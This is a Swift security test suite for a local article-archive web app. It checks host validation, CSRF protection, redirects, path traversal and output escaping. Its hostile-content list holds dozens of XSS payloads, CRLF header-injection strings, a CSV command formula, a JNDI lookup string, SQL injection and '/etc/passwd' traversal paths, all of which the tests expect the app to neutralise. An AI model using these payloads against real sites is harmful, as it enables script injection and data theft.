import Archive
import Foundation
import Reading
import Testing
import Text

@testable import Desk

@Suite struct SafetyTests {
    @Test(arguments: [
        "evil.example", "localhost.evil.example", "127.0.0.1.nip.example:4747", "", "[::2]",
        "localhost:80:80@evil",
    ])
    func strangeHostIsNotAnswered(host: String) async throws {
        let desk = try TestDesk()
        #expect(await desk.get("/", ["host": host]).status == 421)
    }

    @Test(arguments: ["localhost", "LOCALHOST:1", "127.0.0.1:4747", "[::1]:4747", "[::1]"])
    func ownHostIsAnswered(host: String) async throws {
        #expect(try await TestDesk().get("/", ["host": host]).status == 200)
    }

    @Test func everyAnswerIsFenced() async throws {
        let desk = try TestDesk()
        for path in [
            "/", "/nowhere", "/help", "/api/v1/openapi.json", "/search?q=act:fly", "//evil", "/%00",
        ] {
            let answer = await desk.get(path)
            let policy = try #require(answer.headers["content-security-policy"])
            #expect(policy.hasPrefix("default-src 'none'") && !policy.contains("unsafe"))
            #expect(answer.headers["x-content-type-options"] == "nosniff")
            #expect(answer.headers["referrer-policy"] == "same-origin")
        }
        #expect(await desk.get("/", ["host": "x"]).headers["content-security-policy"] != nil)
    }

    @Test func changesNeedOriginAndToken() async throws {
        let desk = try TestDesk()
        let (cookie, token) = await desk.session()
        let body = "language=de&token=" + token
        func status(_ headers: [String: String], _ body: String) async -> Int {
            await desk.post("/preferences", body, headers).status
        }
        #expect(await status(["cookie": cookie], body) == 303)
        #expect(await status(["cookie": cookie, "sec-fetch-site": "cross-site"], body) == 403)
        #expect(await status(["cookie": cookie, "sec-fetch-site": "same-site"], body) == 403)
        #expect(await status(["cookie": cookie, "origin": "https://evil.example"], body) == 403)
        #expect(await status(["cookie": cookie, "origin": "null"], body) == 403)
        #expect(await status(["cookie": cookie], "language=de") == 403)
        #expect(await status([:], body) == 403)
        let other = await desk.session()
        #expect(await status(["cookie": other.cookie], body) == 403)
        #expect(await desk.get("/corrections?kind=wrong").status == 200, "a GET changes nothing")
        #expect(await desk.post("/api/v1/watches", "{}", type: "text/plain").status == 400)
    }

    @Test(arguments: [
        "//evil.example", "/\\evil.example", "https://evil.example", "/%2f/evil.example",
        "javascript:alert(1)",
        "/search\r\nset-cookie: a=b", "\\\\evil", "/articles/../..//evil",
    ])
    func nothingLeadsElsewhere(target: String) async throws {
        let desk = try TestDesk()
        let answer = await desk.submit("/preferences", ["language": "de", "back": target])
        #expect(answer.status == 303)
        let location = try #require(answer.headers["location"])
        #expect(location.hasPrefix("/") && !location.hasPrefix("//") && !location.contains("\\"))
        #expect(
            !location.contains("\r") && !location.contains("\n")
                && !location.contains("evil.example"))
    }

    @Test(arguments: [
        "//evil", "/..", "/../etc/passwd", "/assets/../../etc/passwd", "/assets/x/..%2fdesk.css",
        "/%2e%2e/etc",
        "/articles/%00", "/articles//x", "/actors/", "/s/zz/s1", "/s/00000000/s1.json", "/%ff",
        "/%zz", "*",
        "http://evil/", "/articles/0000000000", "/watches/99", "/api/v2/today",
    ])
    func strangePathsFindNothing(path: String) async throws {
        let answer = try await TestDesk().get(path)
        #expect([400, 404].contains(answer.status))
        #expect(!answer.text.contains("root:"))
    }

    @Test func errorsTellNothing() async throws {
        let desk = try TestDesk()
        for path in [
            "/<script>alert(1)</script>", "/search?q=act:%3Cscript%3E",
            "/articles/http:a%3Cscript%3E",
        ] {
            let answer = await desk.get(path)
            #expect(!answer.text.contains("<script>alert") && !answer.text.contains("act:<script"))
            #expect(!answer.text.contains(desk.archive.path))
        }
    }

    @Test func tokensOpenADeskForOthers() async throws {
        let file = FileManager.default.temporaryDirectory.appending(path: UUID().uuidString)
        defer { try? FileManager.default.removeItem(at: file) }
        let (token, line) = AccessList.makeToken()
        #expect(!line.contains(token))
        try Data((line + "\n").utf8).write(to: file)
        let list = try AccessList(file: file.path)
        let desk = try TestDesk {
            $0.access = list
            $0.proxy = ("x-user", ["10.0.0.1"])
        }
        #expect(await desk.get("/api/v1/today").status == 401)
        #expect(await desk.get("/").text.contains("action=\"/login\""))
        #expect(await desk.get("/api/v1/today", ["authorization": "Bearer " + token]).status == 200)
        // A header of a proxy counts only from the proxy itself.
        #expect(
            await desk.get("/api/v1/today", ["x-user": "anna", "x-forwarded-for": "10.0.0.1"])
                .status == 401)
        let proxied = await desk.desk.respond(
            to: DeskRequest(
                path: "/api/v1/today", headers: ["host": "localhost", "x-user": "anna"],
                peer: "10.0.0.1"))
        #expect(proxied.status == 200)
        let (cookie, form) = await desk.session()
        let entered = await desk.post("/login", "key=\(token)&token=\(form)", ["cookie": cookie])
        #expect(entered.status == 303)
        #expect(await desk.get("/api/v1/today", ["cookie": cookie]).status == 200)
        for _ in 0..<6 {
            _ = await desk.post(
                "/login", "key=wrong&token=\(form)", ["cookie": cookie], peer: "9.9.9.9")
        }
        let blocked = await desk.post(
            "/login", "key=\(token)&token=\(form)", ["cookie": cookie], peer: "9.9.9.9")
        #expect(blocked.status == 429 && blocked.headers["retry-after"] != nil)
    }

    @Test func longBodiesAreRefused() async throws {
        let desk = try TestDesk { $0.bodyLimit = 1000 }
        let answer = await desk.post(
            "/api/v1/read", String(repeating: "x", count: 2000), type: "text/plain")
        #expect(answer.status == 413)
    }

    @Test func spreadsheetsRunNothing() {
        let row = String(
            decoding: csvBytes(["=1+1", "+x", "-x", "@x", "a\"b", "a,b", "\tx"]), as: UTF8.self)
        #expect(row == "'=1+1,'+x,'-x,'@x,\"a\"\"b\",\"a,b\",'\tx\r\n")
    }

    @Test(arguments: [
        "javascript:alert(1)", "data:text/html,x", "//evil", "http://a\"b", "https://a b",
        "HTTPS://a\u{202E}b",
    ])
    func onlyTheWebIsLinked(address: String) { #expect(Link(external: address) == nil) }
}

/// Articles, titles and queries that try to take a page over.
@Suite struct HostileContentTests {
    static let pieces: [String] = {
        let scripts = [
            "<script>alert(1)</script>", "<SCRIPT SRC=//evil/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
            "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
            "\" onmouseover=\"alert(1)",
            "' onfocus='alert(1)' autofocus='", "<iframe srcdoc='<script>alert(1)</script>'>",
            "<iframe src=javascript:alert(1)>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)>",
            "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
            "<base href=//evil/>",
            "<meta http-equiv=refresh content=0;url=//evil>",
            "<form action=//evil><input name=token>",
            "<link rel=stylesheet href=//evil/x.css>", "<object data=x.swf>", "<embed src=x>",
            "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>", "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "</style><script>alert(1)</script>", "</script><script>alert(1)</script>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<xss style=\"x:expression(alert(1))\">",
            "<style>@import '//evil/x.css';</style>", "<style>*{background:url(//evil)}</style>",
            "<div style=background:url(//evil)>",
            "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>",
            "#{alert(1)}", "`${alert(1)}`",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>", "<\u{200B}script>alert(1)</script>",
            "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
            "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
            "<button formaction=javascript:alert(1)>", "<isindex action=javascript:alert(1)>",
            "<table background=javascript:alert(1)>",
            "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>",
            "<svg><animate onbegin=alert(1)>",
            "<svg><use href=\"data:image/svg+xml,<svg onload=alert(1)>\">",
            "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
        ]
        let invisible = [
            "\u{202E}gpj.exe", "\u{2066}a\u{2067}b\u{2069}", "\u{202A}\u{202B}\u{202C}\u{202D}",
            "\u{200E}\u{200F}", "\u{061C}abc",
            "a\u{200B}b\u{200C}c\u{200D}d", "\u{FEFF}bom", "\u{2028}line\u{2029}paragraph",
            "\u{0085}next", "\u{0000}nul",
            "\u{0008}\u{0008}\u{0008}", "\u{001B}[31mred\u{001B}[0m", "\u{001B}]0;title\u{0007}",
            "\u{7F}del", "\u{E0041}\u{E0042}tags",
            "\u{FFF9}a\u{FFFA}b\u{FFFB}", "\u{2060}\u{2061}\u{2062}\u{2063}",
            "Z\u{0351}\u{0352}\u{0353}\u{0354}a\u{0355}\u{0356}lgo",
            String(repeating: "\u{0301}", count: 500),
            "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}", "\u{D7FF}\u{E000}\u{FFFD}",
        ]
        let headers = [
            "a\r\nset-cookie: x=y", "a\nlocation: //evil", "%0d%0aset-cookie:%20x=y",
            "a\r\n\r\n<script>alert(1)</script>",
            "GET / HTTP/1.1\r\nhost: evil", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
            "BEGIN:VCALENDAR\r\nEND:VCALENDAR",
            "x\\n;,\"y", "${jndi:ldap://evil/a}", "'; DROP TABLE document; --", "\" OR 1=1 --",
            "%s%s%n", "../../etc/passwd",
        ]
        let long = [
            String(repeating: "A", count: 20_000), String(repeating: "<b>", count: 3000),
            String(repeating: "\"", count: 5000),
            String(repeating: "(", count: 5000), String(repeating: "wort ", count: 4000),
            String(repeating: "\u{1F600}", count: 3000),
        ]
        return scripts + invisible + headers + long
    }()

    @Test func thereAreEnough() { #expect(Self.pieces.count >= 100) }

    struct Tag {
        var name: String
        var attributes: [(name: String, value: String)] = []
    }

    /// Elements and attributes of a page, as a browser cuts them: everything else is text.
    static func tags(_ page: [UInt8]) -> [Tag] {
        var tags: [Tag] = []
        var index = 0
        func string(_ range: Range<Int>) -> String { String(decoding: page[range], as: UTF8.self) }
        while let open = page[index...].firstIndex(of: UInt8(ascii: "<")) {
            index = open + 1
            if index < page.count, page[index] == UInt8(ascii: "/") { index += 1 }
            let start = index
            while index < page.count, page[index] > 0x20, page[index] != UInt8(ascii: ">") {
                index += 1
            }
            var tag = Tag(name: string(start..<index).lowercased())
            while index < page.count, page[index] != UInt8(ascii: ">") {
                while index < page.count, page[index] <= 0x20 { index += 1 }
                let name = index
                while index < page.count, page[index] > 0x20, page[index] != UInt8(ascii: "="),
                    page[index] != UInt8(ascii: ">")
                { index += 1 }
                var attribute = (name: string(name..<index).lowercased(), value: "")
                if index + 1 < page.count, page[index] == UInt8(ascii: "="), page[index + 1] == 0x22
                {
                    let value = index + 2
                    index = page[value...].firstIndex(of: 0x22) ?? page.count
                    attribute.value = string(value..<index)
                    index += 1
                }
                if !attribute.name.isEmpty { tag.attributes.append(attribute) }
                if index == name { index += 1 }
            }
            tags.append(tag)
        }
        return tags
    }

    static let known: Set<String> = [
        "!doctype", "html", "head", "meta", "title", "link", "script", "body", "a", "header",
        "span", "form",
        "input", "button", "nav", "details", "summary", "ul", "li", "main", "footer", "p", "dialog",
        "h1", "h2",
        "dl", "dt", "dd", "kbd", "div", "section", "article", "blockquote", "time", "mark", "ol",
        "svg", "line",
        "rect", "path", "circle", "text", "figure", "figcaption", "table", "thead", "tbody", "tr",
        "th", "td",
        "caption", "label", "select", "option", "datalist", "textarea", "code", "pre", "q", "sup",
        "strong",
        "del", "ins", "meter",
    ]

    static func check(_ page: DeskResponse, _ what: String) {
        #expect(page.status < 500, "\(what)")
        for (name, value) in page.headers {
            #expect(!value.contains("\r") && !value.contains("\n"), "\(what): \(name)")
        }
        guard page.headers["content-type"]?.hasPrefix("text/html") == true else { return }
        let bytes = page.body
        // U+202A to U+202E and U+2066 to U+2069 in UTF-8
        let hidden = bytes.indices.dropLast(2).contains { index in
            bytes[index] == 0xE2
                && (bytes[index + 1] == 0x80 && (0xAA...0xAE).contains(bytes[index + 2])
                    || bytes[index + 1] == 0x81 && (0xA6...0xA9).contains(bytes[index + 2]))
        }
        #expect(!hidden, "\(what)")
        var scripts = 0
        for tag in tags(bytes) {
            #expect(known.contains(tag.name), "\(what): \(tag.name.prefix(80))")
            if tag.name == "script", !tag.attributes.isEmpty { scripts += 1 }
            for (name, value) in tag.attributes {
                let isBad =
                    name.hasPrefix("on") || ["style", "srcdoc", "formaction"].contains(name)
                    || !name.utf8.allSatisfy {
                        $0 == 0x2D || $0 == 0x3A || (0x30...0x7A).contains($0)
                    }
                #expect(!isBad, "\(what): \(tag.name) \(name.prefix(80))")
                if ["href", "src", "action"].contains(name) {
                    let isOurs =
                        value.hasPrefix("/") && !value.hasPrefix("//") || value.hasPrefix("#")
                    let isWeb = value.hasPrefix("https://") || value.hasPrefix("http://")
                    #expect(
                        isOurs || isWeb && name == "href", "\(what): \(name) \(value.prefix(80))")
                }
            }
        }
        #expect(scripts <= 1)
    }

    @Test func nothingOfAQueryRuns() async throws {
        let desk = try await TestDesk.withStory()
        for (index, piece) in Self.pieces.enumerated() {
            for path in ["search", "watches", "actors"] {
                let name = path == "actors" ? "name" : "q"
                let link = Link([path], query: [(name, String(piece.prefix(900)))])
                Self.check(await desk.get(link.address), "\(path) \(index)")
            }
            Self.check(await desk.get(Link([String(piece.prefix(200))]).address), "path \(index)")
            Self.check(
                await desk.get(
                    "/", ["accept-language": piece, "cookie": piece, "if-none-match": piece]),
                "header \(index)")
        }
    }

    @Test func nothingOfAnArticleRuns() async throws {
        let desk = try TestDesk()
        let documents = Self.pieces.enumerated().map {
            index, piece -> Result<Document, InputError> in
            // How the reader takes very long sentences is tested with the reader.
            let words = String(piece.prefix(300))
            return Result<Document, InputError>.success(
                Document(
                    name: piece, title: piece, language: index % 2 == 0 ? "en" : "de",
                    published: "2025-03-0\(index % 9 + 1)",
                    outlet: String(piece.prefix(300)),
                    url: index % 3 == 0 ? piece : "https://example.org/\(index)",
                    author: piece,
                    text: Document.cleaned(
                        "Minister \(words) said on Monday that \(words) would come. „\(words)“, sagte Anna Berg \(index). "
                            + "Paul Weber denied it: \"\(words)\"")))
        }
        try await desk.add(documents)
        let all = try await desk.archive.read { snapshot in
            (
                try snapshot.find(Query("in:documents"), page: PageRequest(limit: 500)).documents,
                try snapshot.find(Query("in:statements"), page: PageRequest(limit: 500)).statements,
                try snapshot.actors(page: PageRequest(limit: 200)).rows
            )
        }
        #expect(all.0.count > 50 && all.1.count > 50)
        for hit in all.0 {
            Self.check(await desk.get(Address(.article, hit.document.id).link().address), "article")
        }
        for row in all.1.prefix(30) {
            for format in [Format.html, .bibtex, .citation, .annotation, .text, .json] {
                let answer = await desk.get(Address.statement(row.reference).link(format).address)
                #expect(answer.status == 200)
                if format == .html { Self.check(answer, "statement") }
            }
        }
        for actor in all.2.prefix(30) {
            Self.check(
                await desk.get(Address(.actor, actor.id).link().address), "actor \(actor.id)")
        }
        for path in [
            "/?days=30", "/articles?limit=200", "/articles.atom", "/articles.csv", "/sources",
            "/sources.csv",
            "/disputes", "/expectations", "/expectations.ics", "/figures",
            "/timeline?q=in:statements&limit=200",
            "/network?q=in:statements", "/map", "/briefing?q=berg", "/briefing.md?q=berg",
            "/search.atom?q=berg",
        ] {
            let answer = await desk.get(path)
            #expect(answer.status == 200, "\(path)")
            Self.check(answer, path)
        }
    }
}
